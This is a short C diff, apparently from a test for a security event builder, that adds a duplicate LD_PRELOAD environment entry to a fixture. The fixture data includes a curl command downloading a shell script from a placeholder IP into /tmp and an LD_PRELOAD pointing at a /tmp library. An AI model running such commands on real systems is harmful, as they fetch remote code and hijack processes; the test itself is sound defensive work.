@@ -141,6 +141,7 @@ static void add_exec(struct entry_builder *builder, struct buf *out)
 	BUILDER_LIST(builder, &exec->args,
 		     "curl\0-fsSL\0-o\0/tmp/x y\0https://198.51.100.7/i.sh?d=%25+1");
 	BUILDER_LIST(builder, &exec->env, "LD_PRELOAD=/tmp/a.so");
+	BUILDER_LIST(builder, &exec->env, "LD_PRELOAD=/tmp/a.so");
 	enrich_all(builder);
 	builder_text(builder, &builder->enriched->file_owner, "root");
 	builder_text(builder, &builder->enriched->file_group, "root");
